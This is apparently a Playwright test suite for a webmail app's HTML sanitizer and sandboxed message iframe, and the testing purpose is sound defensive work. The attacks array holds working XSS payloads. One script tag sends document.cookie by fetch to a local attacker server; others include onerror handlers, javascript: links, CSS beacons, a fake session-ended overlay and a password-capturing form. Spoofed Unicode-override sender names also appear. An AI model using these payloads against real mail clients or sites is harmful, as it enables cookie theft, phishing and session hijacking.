// Mail of strangers who mean harm, in the real page. Each attack is made twice: by a mail that
// is delivered, and by HTML that the server is made to leave as it is, so that the frame has to
// hold alone.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { startMail, whyNot } from "./mail-server.mjs";
import { Visitor, call, startBrowser, startServer, until } from "./support.mjs";

const skip = whyNot();
let mail, server, browser, evil;
before(async () => {
  if (skip) return;
  mail = await startMail();
  evil = await startEvil();
  [server, browser] = await Promise.all([startServer({ plugins: mail.plugins, more: mail.options }), startBrowser()]);
});
after(async () => { await browser?.close(); await server?.stop(); evil?.close(); mail?.stop(); });

/** Another site, which notes everything that it is asked for. */
async function startEvil() {
  const asked = [];
  const s = createServer((req, res) => { asked.push(req.url); res.setHeader("access-control-allow-origin", "*").end("<title>another site</title>"); });
  await new Promise((r) => s.listen(0, "127.0.0.1", r));
  return { asked, url: `http://127.0.0.1:${s.address().port}`, close: () => s.close() };
}

const attacks = (e) => [
  `<script>parent.hit = 1; fetch("${e}/script?" + document.cookie)</script>`,
  `<img src="${e}/img" onerror="top.hit = 1" onload="top.hit = 1"><img src=x onerror="parent.hit=1">`,
  `<img srcset="${e}/srcset 1x"><picture><source srcset="${e}/source"><img></picture><svg onload="parent.hit=1"><image href="${e}/svg"></image></svg>`,
  `<meta http-equiv="refresh" content="0;url=${e}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${e}/base/"><link rel="stylesheet" href="${e}/css"><link rel="prefetch" href="${e}/prefetch"><link rel="preconnect" href="${e}">`,
  `<style>@import "${e}/import"; * { background: url(${e}/background) } body::before { content: "owned"; position: fixed; inset: 0 }</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red url(${e}/style)">Your session has ended</div>`,
  `<form id="out" action="/api/auth/sign-out" method="post" target="_top"><button id="post">Open</button></form><form action="${e}/form"><input name="password" autofocus><input type="submit" id="send"></form>`,
  `<iframe src="${e}/iframe"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe><object data="${e}/object"></object><embed src="${e}/embed">`,
  `<video src="${e}/video" autoplay poster="${e}/poster"></video><audio src="${e}/audio" autoplay></audio><input type="image" src="${e}/input">`,
  `<a id="js" href="javascript:parent.hit=1">Open</a><a id="data" href="data:text/html,<script>opener.hit=1</script>">Open</a>`,
  `<a id="top" href="${e}/top" target="_top">Open</a><a id="parent" href="/account" target="_parent">Open</a>`,
  `</body></html></iframe></textarea></title><script>hit=1</script><h1>Sign in again</h1>`,
];

const letter = (subject, html, from = "Eve <eve@evil.example>") =>
  `From: ${from}\nTo: ada@mail.example\nSubject: ${subject}\nMessage-ID: <${Math.random()}@evil.example>\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n${html}`;

let count = 0;
async function owner() {
  const v = await Visitor.enter(browser, server.base), email = `ada${++count}@example.com`;
  await call(v.context, server.base, "/sign-up/email", { email, password: "correct horse 1", name: "Ada" });
  await v.open((await server.mail(email, "verify-email")).url);
  await until("the mailbox", async () => (await v.context.request.get("/api/v1/mail/threads")).ok());
  v.mailbox = (await (await v.context.request.get("/api/v1/mail/accounts")).json())[0].email.split("@")[0];
  return v;
}

const frameOf = (v) => v.page.frameLocator(".mail-frame");

/** Clicks what the mail offers, and checks that nothing came of it. */
async function holds(v, what) {
  const { page } = v;
  await page.locator(".mail-frame").waitFor();
  const url = page.url();
  await frameOf(v).locator("body").waitFor();
  const clickable = frameOf(v).locator("a, button, input[type=submit], input[type=image]");
  for (let i = 0, n = await clickable.count(); i < n; i++) await clickable.nth(i).click({ timeout: 2000, force: true, noWaitAfter: true }).catch(() => {});
  await page.evaluate(() => new Promise((r) => setTimeout(r, 300))); // what it would do, it would do at once
  assert.equal(page.url(), url, `${what}: the page went elsewhere`);
  assert.equal(await page.evaluate(() => window.hit), undefined, `${what}: a script ran`);
  assert.equal(await page.locator("h1").count(), 1, `${what}: markup got out`);
  assert.ok((await v.session())?.user, `${what}: signed out`);
  const box = await page.locator(".mail-frame").boundingBox(), outside = await page.evaluate((b) => {
    const e = document.elementFromPoint(b.x + 20, b.y - 8);
    return e?.tagName !== "IFRAME" && Boolean(document.elementFromPoint(20, 20)?.closest("header"));
  }, box);
  assert.ok(outside, `${what}: something lies over the page`);
  const real = page.frames().filter((f) => f !== page.mainFrame() && /^https?:/.test(f.url()));
  assert.deepEqual(real.map((f) => f.url()), [], `${what}: a frame went elsewhere`);
}

test("mails as they are delivered", { skip }, async () => {
  const v = await owner();
  await mail.deliver(v.mailbox, letter("All at once", attacks(evil.url).join("\n")));
  await v.open("/p/mail");
  await v.page.locator("[data-thread]").click();
  await holds(v, "the server's cleaning");
  await v.page.getByText("Images are not loaded").waitFor();
  assert.deepEqual(evil.asked.filter((u) => u !== "/top" && u !== "/favicon.ico"), [], "what a mail names was fetched");
  const html = await frameOf(v).locator("body").innerHTML();
  assert.doesNotMatch(html, /<script|<form|<style|<iframe|<meta|<base|\son\w+=|javascript:|style=/i);
  for (const p of v.context.pages()) if (p !== v.page) await p.close();
  v.content();
  await v.leave();
});

test("the frame alone, with HTML that nobody has cleaned", { skip }, async () => {
  const v = await owner();
  await mail.deliver(v.mailbox, letter("x", "<p>x</p>"));
  for (const html of attacks(evil.url)) {
    evil.asked.length = 0;
    await v.page.route("**/api/v1/mail/threads/*", async (route) => {
      const res = await route.fetch(), body = await res.json();
      body.messages[0].bodyHtml = html;
      await route.fulfill({ response: res, json: body });
    });
    await v.open("/p/mail");
    await v.page.locator("[data-thread]").click();
    await holds(v, html);
    // A link that is clicked opens a page of its own, which knows nothing of this one.
    assert.deepEqual(evil.asked.filter((u) => u !== "/top" && u !== "/favicon.ico"), [], html);
    for (const p of v.context.pages()) {
      if (p === v.page) continue;
      assert.equal(await p.evaluate(() => window.opener), null, html);
      await p.close();
    }
    await v.page.unroute("**/api/v1/mail/threads/*");
  }
  await v.leave();
});

test("the frame's bonds are what they are meant to be", { skip }, async () => {
  const v = await owner();
  await mail.deliver(v.mailbox, letter("x", `<p>x <a href="${evil.url}/link">there</a></p>`));
  await v.open("/p/mail");
  await v.page.locator("[data-thread]").click();
  await v.page.locator(".mail-frame").waitFor();
  assert.equal(await v.page.locator(".mail-frame").getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
  const inside = v.page.frames().find((f) => f !== v.page.mainFrame());
  assert.equal(await v.page.evaluate(() => document.querySelector(".mail-frame").contentDocument), null, "the frame's origin is not its own");
  // Playwright runs this in spite of the sandbox, in the frame's origin.
  assert.equal(await inside.evaluate(() => { try { return document.cookie || "none"; } catch (e) { return e.name; } }), "SecurityError");
  assert.equal(await inside.evaluate(() => { try { return sessionStorage.length; } catch (e) { return e.name; } }), "SecurityError");
  assert.equal(await inside.evaluate(() => { try { return parent.document.title; } catch (e) { return e.name; } }), "SecurityError");
  assert.notEqual(await inside.evaluate(() => getComputedStyle(document.body).fontFamily), "", "the frame's own style holds");
  const popup = v.context.waitForEvent("page");
  await frameOf(v).getByRole("link", { name: "there" }).click();
  const other = await popup;
  await other.waitForLoadState();
  assert.equal(await other.title(), "another site");
  assert.equal(await other.evaluate(() => `${window.opener} ${document.referrer}`), "null ");
  v.content();
  await v.leave();
});

test("names that are made to deceive", { skip }, async () => {
  const v = await owner();
  const b64 = (s) => `=?utf-8?B?${Buffer.from(s).toString("base64")}?=`;
  await mail.deliver(v.mailbox, letter(b64("Invoice \u202Efdp.exe\u2066 <img src=x onerror=hit=1>"), "<p>x</p>", `${b64("\u202Emoc.knab\u200B@reganam <b>")} <eve@evil.example>`));
  await v.open("/p/mail");
  const row = v.page.locator("[data-thread]");
  await row.waitFor();
  const text = await row.textContent();
  assert.doesNotMatch(text, /[\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/);
  assert.match(text, /Invoice fdp\.exe <img src=x onerror=hit=1>/);
  assert.match(text, /eve@evil\.example/, "a name with an address in it gives way to the true address");
  await row.click();
  await v.page.locator(".mail-people").getByText("moc.knab@reganam <b> <eve@evil.example>").waitFor();
  assert.equal(await v.page.locator("main img, main b").count(), 0);
  v.content();
  await v.leave();
});
